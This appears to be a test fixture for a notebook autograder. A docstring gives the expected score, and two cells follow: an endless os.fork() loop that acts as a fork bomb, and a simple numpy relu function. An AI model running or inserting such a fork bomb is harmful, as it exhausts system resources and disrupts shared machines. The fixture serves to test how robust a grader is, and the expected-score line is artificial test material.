"""forks for ever while the notebook is read -> that cell is left out, the rest counts
earns: 8
"""
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass

# %%
import numpy as np


def relu(x):
    return np.maximum(np.asarray(x, dtype=float), 0)
